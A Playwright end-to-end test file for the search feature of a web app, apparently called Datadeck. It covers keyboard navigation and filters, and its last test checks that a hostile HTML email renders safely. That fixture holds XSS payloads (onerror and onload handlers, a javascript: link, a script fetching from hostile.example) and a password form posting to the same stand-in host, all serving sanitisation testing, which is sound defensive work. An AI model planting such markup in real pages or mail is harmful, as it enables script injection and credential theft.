import type { Page } from '@playwright/test';
import { runSync } from '../packages/server/test-support/syncing.ts';
import { Client } from '../packages/server/test-support/test-server.ts';
import { deliverMail } from './support/deliver-mail.ts';
import { type Datadeck, expect, test } from './support/journey.ts';
import { expectSound } from './support/soundness.ts';

test.use({ colorScheme: 'light', hasTestSandbox: true });

const ADA = 'ada.nowak@sandbox.example';
const DESKTOP = { width: 1440, height: 900 };
const PHONE = { width: 390, height: 844 };

/** Signs in as Ada, with synchronised mails and pull requests, and opens a page. */
async function openAsAda(page: Page, { url }: Datadeck, path: string): Promise<Client> {
  const ada = await new Client({ url }).signIn(ADA);
  await ada.connect('google', ADA);
  await ada.connect('github', 'ada-nowak');
  await runSync(ada, 'gmail-messages', { labelIds: 'INBOX' });
  await runSync(ada, 'gh-pulls', { owner: 'ada-nowak', repo: 'dotfiles' });
  await page.addInitScript((token) => {
    if (location.protocol.startsWith('http')) localStorage.setItem('dd-authToken', JSON.stringify(token));
  }, ada.token);
  await page.goto(url + path);
  return ada;
}

const box = (page: Page) => page.getByRole('combobox', { name: 'Search all records' });
const results = (page: Page) => page.getByRole('list', { name: 'Results' });
const link = (page: Page, position: number) => results(page).getByRole('link').nth(position);

test('finds, completes and opens a record by keyboard alone, and goes back', async ({ page, datadeck }) => {
  await openAsAda(page, datadeck, '/dashboard/integrations/providers');
  await expect(page.getByRole('heading', { name: 'Providers', level: 1 })).toBeVisible();

  await page.keyboard.press('/');
  await expect(box(page)).toBeFocused();
  await expect(page.getByText('Newest records')).toBeVisible();
  await page.keyboard.type('harbor is:un');
  await expect(page.getByRole('option', { name: 'unread' })).toBeVisible();
  await expectSound(page);
  const found = page.waitForResponse(/\/data\/search\?q=harbor(\+|%20)is%3Aunread/);
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(box(page)).toHaveValue('harbor is:unread ');
  await expect(page).toHaveURL(/\?q=harbor\+is%3Aunread$/);
  // Results of what was typed before may still be listed.
  const { results: answered } = (await (await found).json()) as { results: { title: { text: string }[] }[] };
  const title = answered[1]?.title.map(({ text }) => text).join('') ?? '';
  await expect(results(page).locator('mark').first()).toHaveText(/harbor/i);
  await expect(link(page, 1)).toHaveText(title);

  await page.keyboard.press('ArrowDown');
  await expect(link(page, 0)).toBeFocused();
  await page.keyboard.press('j');
  await expect(link(page, 1)).toBeFocused();
  await page.keyboard.press('Enter');
  const reading = page.getByRole('dialog', { name: title });
  await expect(reading.getByText('Ada Nowak <ada.nowak@sandbox.example>')).toBeVisible();
  await expect(page).toHaveURL(/record=google/);
  await expectSound(page, '[role="dialog"]');
  await page.keyboard.press('Escape');
  await expect(reading).toBeHidden();
  await expect(link(page, 1)).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(box(page)).toBeFocused();

  await page.goBack();
  await expect(box(page)).toHaveValue('');
  await page.goForward();
  await expect(box(page)).toHaveValue('harbor is:unread');
  await expect(link(page, 1)).toHaveText(title);
});

test('narrows by facets, explains problems, and is reached from the palette', async ({ page, datadeck }) => {
  await openAsAda(page, datadeck, '/dashboard/data/search?q=after%3A2000');
  const filters = page.getByRole('complementary', { name: 'Filters' });
  const github = filters.getByRole('button', { name: /^GitHub\b/ }).first();
  const count = (await github.textContent())?.match(/\d+$/)?.[0] ?? '';
  await github.click();
  await expect(page).toHaveURL(/provider=github/);
  await expect(github).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByRole('heading', { name: new RegExp(`^${count} results?$`) })).toBeVisible();
  await filters
    .getByRole('region', { name: 'Author' })
    .getByRole('button', { name: /^ada-nowak/ })
    .click();
  await expect(box(page)).toHaveValue('author:ada-nowak after:2000');
  await expectSound(page);
  await page.goBack();
  await page.goBack();
  await expect(page).toHaveURL(/\?q=after%3A2000$/);
  await expect(github).toHaveAttribute('aria-pressed', 'false');

  await box(page).fill('sender:amy update');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('alert')).toContainText('There is no operator sender:.');
  await expectSound(page);

  await page.keyboard.press('Control+k');
  await page.keyboard.insertText('bootstrap script');
  const palette = page.getByRole('dialog', { name: 'Search and commands' });
  await expect(palette.getByRole('option').first()).toHaveText('Search all records for “bootstrap script”');
  await palette.getByRole('option', { name: /^Update the bootstrap script/ }).click();
  await expect(page.getByRole('dialog', { name: 'Update the bootstrap script' })).toBeVisible();
  await expect(page).toHaveURL(/q=bootstrap\+script&record=github/);
});

test('chooses several labels and a period of months, by pointer and by keyboard, and takes them back', async ({
  page,
  datadeck,
}) => {
  await page.setViewportSize(DESKTOP);
  await openAsAda(page, datadeck, '/dashboard/data/search?q=-harbor');
  const filters = page.getByRole('complementary', { name: 'Filters' });
  const chips = page.getByRole('list', { name: 'Active filters' }).getByRole('button');
  const heading = (count: string) => page.getByRole('heading', { name: new RegExp(`^${count} results?$`) });
  const label = (position: number) =>
    filters.getByRole('region', { name: 'Label' }).getByRole('button', { name: /\d$/ }).nth(position);
  const textOf = async (position: number) => {
    const [, name = '', count = ''] =
      /^(.*), ([\d,]+)$/.exec((await label(position).textContent()) ?? '') ?? [];
    return { name, count };
  };
  await expect(filters.getByRole('region', { name: 'State' })).toBeVisible();
  await expect(filters.getByRole('region', { name: 'Repository' })).toContainText('ada-nowak/dotfiles');
  await expect(filters.getByRole('button', { name: /^Has attachment/ })).toBeVisible();

  // The other labels stay, so that a second one can be chosen.
  const [one, other] = [await textOf(1), await textOf(2)];
  await label(1).click();
  await expect(heading(one.count)).toBeVisible();
  expect(await textOf(2)).toEqual(other);
  await label(2).click();
  await expect(box(page)).toHaveValue(`label:{${one.name} ${other.name}} -harbor`);
  await expect(chips).toHaveText([`Remove Label ${one.name}`, `Remove Label ${other.name}`, 'Clear filters']);
  await expectSound(page);
  await chips.first().click();
  await expect(box(page)).toHaveValue(`label:${other.name} -harbor`);
  await expect(heading(other.count)).toBeVisible();

  // A drag over the last bars.
  const months = filters.getByRole('listbox', { name: 'Month' });
  await months.scrollIntoViewIfNeeded();
  const bars = months.getByRole('option');
  const middleOf = async (position: number) => {
    const area = await bars.nth(position).boundingBox();
    if (!area) throw new Error('the bar is not shown');
    return [area.x + area.width / 2, area.y + area.height / 2] as const;
  };
  const last = (await bars.count()) - 1;
  expect((await months.boundingBox())?.width).toBeLessThanOrEqual((await filters.boundingBox())?.width ?? 0);
  await page.mouse.move(...(await middleOf(last)));
  await page.mouse.down();
  await page.mouse.move(...(await middleOf(last - 1)), { steps: 4 });
  await page.mouse.up();
  await expect(box(page)).toHaveValue(/^after:\d{4}-\d\d before:\d{4}-\d\d label:/);
  const selected = months.getByRole('option', { selected: true });
  await expect(selected).toHaveCount(2);
  await expect(bars).toHaveCount(last + 1);
  const dragged = await box(page).inputValue();
  await expectSound(page);
  await chips.filter({ hasText: ' to ' }).click();
  await expect(box(page)).toHaveValue(`label:${other.name} -harbor`);
  await expect(selected).toHaveCount(0);

  // The same by keyboard alone.
  await chips.first().focus();
  await page.keyboard.press('Enter');
  await expect(box(page)).toHaveValue('-harbor');
  await label(2).focus();
  await page.keyboard.press('Space');
  await expect(box(page)).toHaveValue(`label:${other.name} -harbor`);
  await months.focus();
  await page.keyboard.press('End');
  await page.keyboard.press('Shift+ArrowLeft');
  await page.keyboard.press('Enter');
  await expect(box(page)).toHaveValue(dragged);
  await expect(selected).toHaveCount(2);
  await expect(months).toBeFocused();
});

const HTML = `<html><head><style>p { display: none }</style><base href="http://hostile.example/">
<meta http-equiv="refresh" content="0;url=http://hostile.example/refresh"></head>
<body style="background: url(http://hostile.example/background.png)" onload="parent.document.title = 'owned'">
<p style="color: rgb(200, 0, 0)">Your parcel has arrived.</p>
<img src="http://hostile.example/pixel.png" alt="A parcel"><img src="x" onerror="parent.document.title = 'owned'">
<script>parent.document.title = 'owned'; fetch('http://hostile.example/script')</script>
<form action="http://hostile.example/form"><input name="password"><button>Send</button></form>
<iframe src="http://hostile.example/frame"></iframe><link rel="stylesheet" href="http://hostile.example/style.css">
<a href="https://example.org/track">Track</a> <a href="javascript:parent.document.title='owned'">Trap</a></body></html>`;

test('shows a hostile mail as it is and runs and loads nothing of it, also on a phone', async ({
  page,
  datadeck,
}) => {
  await page.setViewportSize(DESKTOP);
  await deliverMail(datadeck, {
    to: ADA,
    headers: [
      'From: Shop <shop@hostile.example>',
      'Subject: <img src=x onerror=alert(1)> Parcel',
      'Content-Type: multipart/alternative; boundary=part',
    ],
    body: [
      ['--part', 'Content-Type: text/plain; charset=utf-8', '', 'Your parcel is <b>here</b>.'],
      ['--part', 'Content-Type: text/html; charset=utf-8', '', HTML],
      ['--part--'],
    ]
      .flat()
      .join('\r\n'),
  });
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await openAsAda(page, datadeck, '/dashboard/data/search?q=parcel+from%3Ahostile.example');
  await expect(link(page, 0)).toHaveText('<img src=x onerror=alert(1)> Parcel');
  expect(await results(page).locator('img').count()).toBe(0);
  for (const viewport of [PHONE, DESKTOP]) {
    await page.setViewportSize(viewport);
    await expectSound(page);
  }
  await link(page, 0).click();
  const reading = page.getByRole('dialog', { name: '<img src=x onerror=alert(1)> Parcel' });
  await expect(reading.getByText('Your parcel is <b>here</b>.')).toBeVisible();

  await reading.getByRole('switch', { name: 'Show formatted mail' }).click();
  await expect(reading.getByText(/Remote content is blocked/)).toBeVisible();
  const mail = page.frameLocator('iframe[title="Formatted mail"]');
  const text = mail.getByText('Your parcel has arrived.');
  await expect(text).toHaveCSS('color', 'rgb(200, 0, 0)');
  await expect(mail.locator('body')).toContainText('[A parcel]');
  expect(await mail.locator('script, form, input, button, iframe, link, base, img').count()).toBe(0);
  expect(await mail.locator('meta[http-equiv="refresh" i]').count()).toBe(0);
  await expect(mail.getByRole('link')).toHaveText('Track');
  await expect(mail.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer');
  for (const viewport of [DESKTOP, PHONE]) {
    await page.setViewportSize(viewport);
    await expectSound(page, '[role="dialog"]');
  }
  // Once a document has loaded, each of its images, scripts and frames has been requested, and has failed or run.
  const frame = await (await reading.locator('iframe').elementHandle())?.contentFrame();
  await frame?.waitForLoadState('load');
  expect(await page.title()).toBe('Search · Datadeck');
  expect(requests.filter((url) => !url.startsWith(datadeck.url) && !url.startsWith('data:'))).toEqual([]);
});
